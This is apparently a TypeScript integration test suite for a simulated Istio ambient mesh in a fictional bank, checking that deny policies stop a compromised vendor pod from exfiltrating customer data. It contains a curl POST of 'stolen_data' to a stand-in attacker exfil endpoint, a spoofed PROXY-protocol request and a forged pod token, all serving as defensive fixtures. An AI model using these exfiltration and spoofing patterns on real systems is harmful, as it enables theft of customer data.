// The mesh end to end: real pods, real capture, real HBONE over mTLS, Istio policy at the destination.
import { readFileSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readManifestDocuments } from '../src/control-plane/cluster.ts';
import { ManifestError } from '../src/manifests/errors.ts';
import { MESH_POLICIES } from '../src/scenario.ts';
import { encodePreamble } from '../src/mesh/capture/protocol.ts';
import { forwardToPod, seriesValue, startTestCluster, type TestCluster } from '../testing/cluster.ts';
import { callTool, connectClient } from '../testing/workloads.ts';

const CONVERTER = 'spiffe://cluster.local/ns/trustusbank-bank-vendors/sa/currency-converter';
const EXFIL = 'http://mock-attacker.external-attacker.svc.cluster.local:8080/exfil';
const DENY_POLICY = readManifestDocuments(join(MESH_POLICIES, 'deny-bank-to-attacker.yaml'), []);

describe('the mesh', () => {
  let t: TestCluster;
  beforeAll(async () => {
    t = await startTestCluster();
  }, 120_000);
  afterAll(async () => {
    await t?.close();
  });

  const attackerUrl = () => t.cluster.forwards.find((f) => f.service === 'mock-attacker')!.url;
  const exfilFromConverter = () => t.curlFrom('trustusbank-bank-vendors', 'currency-converter', ['-X', 'POST', '-d', '{"stolen_at_tool":"probe","stolen_data":{"name":"Alex Carter"}}', EXFIL]);

  it('gives every pod its SPIFFE identity and the digest its tag points at', () => {
    const pods = t.cluster.engine.allPods();
    expect(pods.map((p) => p.spiffeId).sort()).toEqual([
      'spiffe://cluster.local/ns/external-attacker/sa/mock-attacker',
      'spiffe://cluster.local/ns/trustusbank-bank-agents/sa/fraud-bot',
      'spiffe://cluster.local/ns/trustusbank-bank-agents/sa/support-bot',
      'spiffe://cluster.local/ns/trustusbank-bank-agents/sa/triage-bot',
      'spiffe://cluster.local/ns/trustusbank-bank-frontend/sa/chatbot',
      'spiffe://cluster.local/ns/trustusbank-bank-mcp/sa/account-mcp',
      'spiffe://cluster.local/ns/trustusbank-bank-mcp/sa/ticket-mcp',
      'spiffe://cluster.local/ns/trustusbank-bank-mcp/sa/transaction-mcp',
      CONVERTER,
    ]);
    for (const pod of pods) {
      expect(pod.ready).toBe(true);
      expect(pod.imageDigest).toBe(t.cluster.images.resolve(pod.image));
    }
  });

  it('lets the converter reach the attacker while no policy applies', async () => {
    const before = (await t.attackerLoot()).count;
    const result = await exfilFromConverter();
    expect(result.code).toBe(0);
    expect(JSON.parse(result.stdout)).toMatchObject({ stored: true });
    expect((await t.attackerLoot()).count).toBe(before + 1);
    const metrics = await t.metricsText();
    expect(seriesValue(metrics, 'istio_tcp_connections_opened_total', { reporter: 'destination', source_principal: CONVERTER, destination_workload: 'mock-attacker' })).toBeGreaterThan(0);
  });

  it("shows the attacker the sending pod's address, as ambient keeps it, and no one can claim another", async () => {
    const converter = t.cluster.engine.podsOf('trustusbank-bank-vendors', 'currency-converter')[0]!;
    expect((await exfilFromConverter()).code).toBe(0);
    const loot = async () => ((await (await fetch(new URL('/loot', attackerUrl()))).json()) as { events: { source_ip: string; body: unknown }[] }).events;
    expect((await loot()).at(-1)!.source_ip).toBe(converter.ip);
    const before = (await t.attackerLoot()).count;
    // Through the host port the sender is this machine; a source line of the client's own is only data.
    const spoof = await new Promise<string>((resolve, reject) => {
      const url = new URL(attackerUrl());
      const socket = connect(Number(url.port), url.hostname);
      let answer = '';
      socket.on('data', (chunk: Buffer) => (answer += chunk.toString('latin1')));
      socket.on('close', () => resolve(answer));
      socket.on('error', reject);
      socket.write(`PROXY TCP4 ${converter.ip} 10.244.0.1 4242 8080\r\nPOST /exfil HTTP/1.1\r\nhost: x\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}`);
    });
    expect(spoof).toMatch(/^HTTP\/1\.1 400/);
    expect((await t.attackerLoot()).count).toBe(before);
    const direct = await fetch(new URL('/exfil', attackerUrl()), { method: 'POST', body: '{"from":"host"}' });
    expect(direct.status).toBe(200);
    expect((await loot()).at(-1)).toMatchObject({ source_ip: '127.0.0.1', body: { from: 'host' } });
  });

  it('refuses the converter at the attacker once deny-bank-to-attacker applies, and leaves the evidence', async () => {
    await t.cluster.engine.apply(DENY_POLICY);
    const before = (await t.attackerLoot()).count;
    const result = await exfilFromConverter();
    expect(result.code).toBe(56);
    expect(result.stderr).toContain('Connection reset by peer');
    expect((await t.attackerLoot()).count).toBe(before);

    const metrics = await t.metricsText();
    expect(
      seriesValue(metrics, 'istio_tcp_connections_failed_total', {
        reporter: 'destination',
        response_flags: 'DENY',
        source_principal: CONVERTER,
        destination_workload_namespace: 'external-attacker',
      }),
    ).toBeGreaterThanOrEqual(1);
    expect(seriesValue(metrics, 'istio_tcp_connections_failed_total', { reporter: 'source', response_flags: 'CONNECT', source_principal: CONVERTER })).toBeGreaterThanOrEqual(1);
    const denial = t
      .ztunnelLog()
      .split('\n')
      .filter((line) => line.includes('"direction":"inbound"') && line.includes('policy rejection'))
      .map((line) => JSON.parse(line) as Record<string, string>)
      .at(-1)!;
    expect(denial).toMatchObject({
      msg: 'connection complete',
      'src.identity': CONVERTER,
      'dst.namespace': 'external-attacker',
      error: 'connection closed due to policy rejection: explicitly denied by: external-attacker/deny-bank-to-attacker',
    });
  });

  it('still refuses a new converter pod with a new address: the deny is on identity', async () => {
    const [old] = t.cluster.engine.podsOf('trustusbank-bank-vendors', 'currency-converter');
    await t.cluster.engine.deletePods('trustusbank-bank-vendors', 'currency-converter');
    const [replacement] = t.cluster.engine.podsOf('trustusbank-bank-vendors', 'currency-converter');
    expect(replacement!.name).not.toBe(old!.name);
    expect(replacement!.ip).not.toBe(old!.ip);
    expect(replacement!.spiffeId).toBe(CONVERTER);
    const before = (await t.attackerLoot()).count;
    expect((await exfilFromConverter()).code).toBe(56);
    expect((await t.attackerLoot()).count).toBe(before);
  });

  it('keeps the traffic the policies allow flowing', async () => {
    const toBank = await t.curlFrom('trustusbank-bank-vendors', 'currency-converter', ['-s', 'http://account-mcp.trustusbank-bank-mcp:8080/healthz']);
    expect(toBank.code).toBe(0);
    expect(JSON.parse(toBank.stdout)).toMatchObject({ status: 'ok', workload: 'account-mcp' });
    // The attacker's own namespace is not a bank namespace: it may still reach itself.
    const inside = await t.curlFrom('external-attacker', 'mock-attacker', ['-s', 'http://mock-attacker:8080/healthz']);
    expect(inside.code).toBe(0);
  });

  it('enforces default-deny with allow-lists when all mesh policies are on, and lifts them when off', async () => {
    await t.cluster.engine.apply(readManifestDocuments(MESH_POLICIES, []));
    const denied = await t.curlFrom('trustusbank-bank-vendors', 'currency-converter', ['-s', 'http://account-mcp.trustusbank-bank-mcp:8080/healthz']);
    expect(denied.code).toBe(56);
    expect(t.ztunnelLog()).toContain('allow policies exist, but none allowed');
    await t.cluster.engine.delete(readManifestDocuments(MESH_POLICIES, []));
    expect((await t.curlFrom('trustusbank-bank-vendors', 'currency-converter', ['-s', 'http://account-mcp.trustusbank-bank-mcp:8080/healthz'])).code).toBe(0);
  });

  it('drops a captured connection that presents an unknown pod token, before it reaches anyone', async () => {
    await t.cluster.engine.delete(DENY_POLICY);
    const before = (await t.attackerLoot()).count;
    const capture = t.cluster.engine.captureEndpoint();
    const outcome = await new Promise<{ bytes: number; error?: string }>((resolve) => {
      const socket = connect(capture, () => {
        socket.write(encodePreamble('forged-token-of-some-other-pod', 'mock-attacker.external-attacker', 8080));
        socket.write('POST /exfil HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}');
      });
      let bytes = 0;
      socket.on('data', (chunk: Buffer) => (bytes += chunk.length));
      socket.on('error', (error: NodeJS.ErrnoException) => resolve({ bytes, error: error.code }));
      socket.on('close', () => resolve({ bytes }));
    });
    expect(outcome.bytes).toBe(0);
    expect((await t.attackerLoot()).count).toBe(before);
  });

  it('takes the caller from its certificate, never from what it claims in headers', async () => {
    await t.cluster.engine.apply(DENY_POLICY);
    const attacker = t.cluster.engine.podsOf('external-attacker', 'mock-attacker')[0]!;
    const bank = t.cluster.engine.podsOf('trustusbank-bank-mcp', 'account-mcp')[0]!;
    const outsider = t.cluster.engine.podsOf('external-attacker', 'mock-attacker')[0]!;
    // The converter's certificate with a `forwarded` header naming a pod outside the bank: still denied.
    const decision = t.cluster.ztunnel.decideInbound(CONVERTER, `${attacker.ip}:8080`, { forwarded: `for=${outsider.ip}` });
    expect(decision).toMatchObject({ allow: false, status: 401 });
    // And a header naming a bank pod cannot make an outsider's certificate look like the bank either.
    const allowed = t.cluster.ztunnel.decideInbound(outsider.spiffeId, `${attacker.ip}:8080`, { forwarded: `for=${bank.ip}` });
    expect(allowed.allow).toBe(true);
    if (allowed.allow) expect(allowed.parties.source.spiffeId).toBe(outsider.spiffeId);
  });

  it('refuses a bad manifest whole, naming the file, the document and the field', async () => {
    const before = t.cluster.engine.list().map((l) => l.resource);
    const podsBefore = t.cluster.engine.allPods().map((p) => p.name);
    const text = [
      'apiVersion: v1\nkind: Namespace\nmetadata:\n  name: brand-new\n',
      'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: broken\n  namespace: brand-new\nspec:\n  selector:\n    matchLabels: { app: broken }\n  template:\n    metadata:\n      labels: { app: broken }\n    spec:\n      containers:\n        - name: broken\n          image: trustusbank/account-mcp:1.0.0\n          imagePullPolicy: Always\n',
    ].join('---\n');
    const attempt = t.cluster.engine.apply([{ file: 'bad.yaml', text }]);
    await expect(attempt).rejects.toBeInstanceOf(ManifestError);
    await expect(attempt).rejects.toThrow(/bad\.yaml: document 1 \(Deployment brand-new\/broken\): spec\.template\.spec\.containers\[0\]\.imagePullPolicy/);
    expect(t.cluster.engine.list().map((l) => l.resource)).toEqual(before);
    expect(t.cluster.engine.allPods().map((p) => p.name)).toEqual(podsBefore);
  });
});

describe('pod lifecycle', () => {
  let t: TestCluster;
  beforeAll(async () => {
    t = await startTestCluster();
  }, 120_000);
  afterAll(async () => {
    await t?.close();
  });

  it('restarts a crashed pod with the same identity and counts the restart', async () => {
    const [pod] = t.cluster.engine.podsOf('trustusbank-bank-mcp', 'ticket-mcp');
    const firstPid = pod!.pid!;
    const ready = new Promise<void>((resolve) => {
      const off = t.cluster.engine.onChange(() => {
        if (pod!.ready && pod!.pid !== firstPid) {
          off();
          resolve();
        }
      });
    });
    process.kill(firstPid, 'SIGKILL');
    await ready;
    expect(pod!.restarts).toBe(1);
    expect(pod!.lastExit).toBe('killed by SIGKILL');
    expect(pod!.spiffeId).toBe('spiffe://cluster.local/ns/trustusbank-bank-mcp/sa/ticket-mcp');
  });

  it('shows why a crash-looping pod stops: the exit, the restart count and its stderr, in get pods and status', async () => {
    const crasher = {
      file: 'crasher.yaml',
      text: `apiVersion: apps/v1
kind: Deployment
metadata: { name: crasher, namespace: external-attacker }
spec:
  replicas: 1
  selector: { matchLabels: { app: crasher } }
  template:
    metadata: { labels: { app: crasher } }
    spec:
      serviceAccountName: mock-attacker
      containers:
        - name: crasher
          image: trustusbank/mock-attacker:1.0.0
          env: [{ name: PORT, value: not-a-port }]
          ports: [{ name: http, containerPort: 8080 }]
`,
    };
    await t.cluster.engine.apply([crasher]);
    try {
      const deadline = Date.now() + 60_000;
      const crashed = () => t.cluster.engine.podsOf('external-attacker', 'crasher').find((p) => p.failedBeforeReady);
      while (!crashed() && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 100));
      const pod = crashed()!;
      expect(pod).toBeDefined();
      const table = await t.cli(['get', 'pods', '-n', 'external-attacker']);
      expect(table.code).toBe(0);
      expect(table.stdout).toMatch(new RegExp(`${pod.name} +(CrashLoopBackOff|Running) +[1-9]`));
      expect(table.stdout).toContain(`external-attacker/${pod.name}: exit code 1 (Error) at `);
      expect(table.stdout).toContain('| mock-attacker: PORT must be a whole number from 0 to 65535, got "not-a-port"');
      const status = JSON.parse((await t.cli(['get', 'pods', '-n', 'external-attacker', pod.workload, '-o', 'json'])).stdout) as { lastTermination: { exitCode: number; stderr: string[] } }[];
      expect(status[0]!.lastTermination).toMatchObject({ exitCode: 1, stderr: expect.arrayContaining([expect.stringContaining('PORT must be a whole number')]) });
    } finally {
      await t.cluster.engine.delete([crasher]);
    }
  }, 90_000);

  it('rolls a Deployment out when the digest behind its tag changes, without touching the manifest', async () => {
    const manifestBefore = t.cluster.engine.list('Deployment').find((l) => l.resource.metadata.name === 'currency-converter')!.resource;
    const [old] = t.cluster.engine.podsOf('trustusbank-bank-vendors', 'currency-converter');
    const rugpull = t.cluster.builds.find((b) => b.image === 'acme-fx/currency-converter:1.0.0' && b.variant === 'rugpull')!;
    expect(rugpull.digest).not.toBe(old!.imageDigest);
    t.cluster.images.tag('acme-fx/currency-converter:1.0.0', rugpull.digest);
    await t.cluster.engine.reconcile();
    await t.cluster.engine.waitReady(30_000);
    // The old pod goes once the new one is ready (readiness drives further reconcile passes).
    const deadline = Date.now() + 15_000;
    while (t.cluster.engine.podsOf('trustusbank-bank-vendors', 'currency-converter').length > 1 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
    const pods = t.cluster.engine.podsOf('trustusbank-bank-vendors', 'currency-converter');
    expect(pods).toHaveLength(1);
    expect(pods[0]!.imageDigest).toBe(rugpull.digest);
    expect(pods[0]!.image).toBe('acme-fx/currency-converter:1.0.0');
    expect(t.cluster.engine.list('Deployment').find((l) => l.resource.metadata.name === 'currency-converter')!.resource).toEqual(manifestBefore);
  });

  it('carries the rug-pulled converter’s exfiltration through the mesh, and the deny stops it with the same answer', async () => {
    const pod = t.cluster.engine.podsOf('trustusbank-bank-vendors', 'currency-converter')[0]!;
    const forward = await forwardToPod(pod, 8080);
    const client = await connectClient(forward.url, '2026-07-28');
    const profile = { account_id: '12345', name: 'Alex Carter', ni_number: 'QQ 12 34 56 C' };
    const convert = () => callTool(client, 'convert_currency', { amount: 4287.55, from_ccy: 'GBP', to_ccy: 'USD', customer_profile: profile });
    try {
      const before = (await t.attackerLoot()).count;
      const stolen = await convert();
      expect(stolen.value).toMatchObject({ converted: 5445.19 });
      expect((await t.attackerLoot()).count).toBe(before + 1);

      await t.cluster.engine.apply(DENY_POLICY);
      const blocked = await convert();
      expect(blocked.value).toEqual(stolen.value);
      expect((await t.attackerLoot()).count).toBe(before + 1);
      const podLog = readFileSync(pod.template.launch.logFile, 'utf8');
      expect(podLog).toContain('"msg":"exfil sent"');
      // Refused at connect (ECONNRESET), or its kept-alive connection closed by the policy change.
      expect(podLog).toMatch(/"msg":"exfil blocked".*(ECONNRESET|UND_ERR_SOCKET)/);
    } finally {
      await client.close();
      await forward.close();
    }
  });
});

describe('waypoints', () => {
  let t: TestCluster;
  const WAYPOINT = 'spiffe://cluster.local/ns/trustusbank-platform/sa/trustusbank-waypoint';
  beforeAll(async () => {
    t = await startTestCluster();
  }, 120_000);
  afterAll(async () => {
    await t?.close();
  });

  const fromConverter = (args: string[]) => t.curlFrom('trustusbank-bank-vendors', 'currency-converter', args);
  const L7_POLICY = `apiVersion: security.istio.io/v1
kind: AuthorizationPolicy
metadata: { name: account-mcp-health-only, namespace: trustusbank-bank-mcp }
spec:
  targetRefs: [{ kind: Service, group: "", name: account-mcp }]
  action: ALLOW
  rules:
    - to: [{ operation: { methods: ["GET"], paths: ["/healthz"] } }]
`;
  const accountService = (labels: string) => `apiVersion: v1
kind: Service
metadata:
  name: account-mcp
  namespace: trustusbank-bank-mcp
  labels: { app: account-mcp${labels} }
spec:
  selector: { app: account-mcp }
  ports: [{ name: http, port: 8080, targetPort: http, appProtocol: http }]
`;

  it('ignores targetRefs policies at ztunnel while the service uses no waypoint', async () => {
    await t.cluster.engine.apply([{ file: 'l7.yaml', text: L7_POLICY }]);
    const post = await fromConverter(['-s', '-X', 'POST', '-d', '{}', 'http://account-mcp.trustusbank-bank-mcp:8080/mcp']);
    expect(post.code).toBe(0);
    expect(post.stdout).not.toContain('RBAC');
  });

  it('routes a service that uses a waypoint through it, and enforces methods and paths there', async () => {
    await t.cluster.engine.apply([
      { file: 'waypoint.yaml', text: readManifestDocuments(join(MESH_POLICIES, '..', '..', 'waypoints'), [])[0]!.text },
      { file: 'svc.yaml', text: accountService(', istio.io/use-waypoint: trustusbank-waypoint, istio.io/use-waypoint-namespace: trustusbank-platform') },
    ]);
    await t.cluster.waypoints.sync();

    const health = await fromConverter(['-s', 'http://account-mcp.trustusbank-bank-mcp:8080/healthz']);
    expect(health.code).toBe(0);
    expect(JSON.parse(health.stdout)).toMatchObject({ status: 'ok', workload: 'account-mcp' });

    const post = await fromConverter(['-s', '-i', '-X', 'POST', '-d', '{}', 'http://account-mcp.trustusbank-bank-mcp:8080/mcp']);
    expect(post.stdout).toMatch(/^HTTP\/1\.1 403/);
    expect(post.stdout).toContain('RBAC: access denied');

    const metrics = await t.metricsText();
    expect(seriesValue(metrics, 'istio_requests_total', { reporter: 'waypoint', response_code: '403', source_principal: CONVERTER, destination_service_name: 'account-mcp' })).toBe(1);
    expect(seriesValue(metrics, 'istio_requests_total', { reporter: 'waypoint', response_code: '200', source_principal: CONVERTER })).toBe(1);
    // Behind the waypoint, the pod's ztunnel sees the waypoint's identity, not the caller's.
    const inbound = t
      .ztunnelLog()
      .split('\n')
      .filter((line) => line.includes('"direction":"inbound"') && line.includes('account-mcp'))
      .map((line) => JSON.parse(line) as Record<string, string>)
      .at(-1)!;
    expect(inbound['src.identity']).toBe(WAYPOINT);
  });

  it('lets L4 policies name the waypoint as the caller', async () => {
    await t.cluster.engine.apply(readManifestDocuments(MESH_POLICIES, []));
    // default-deny in bank-mcp allows only the agents, the gateway and the waypoint: the converter gets in
    // through the waypoint, and only where the L7 policy lets it.
    expect((await fromConverter(['-s', 'http://account-mcp.trustusbank-bank-mcp:8080/healthz'])).code).toBe(0);
    const direct = await fromConverter(['-s', 'http://transaction-mcp.trustusbank-bank-mcp:8080/healthz']);
    expect(direct.code).toBe(56);
  });

  it('stops using the waypoint when the service opts out', async () => {
    await t.cluster.engine.delete(readManifestDocuments(MESH_POLICIES, []));
    await t.cluster.engine.apply([{ file: 'svc.yaml', text: accountService(', istio.io/use-waypoint: none') }]);
    const post = await fromConverter(['-s', '-X', 'POST', '-d', '{}', 'http://account-mcp.trustusbank-bank-mcp:8080/mcp']);
    expect(post.stdout).not.toContain('RBAC');
  });
});
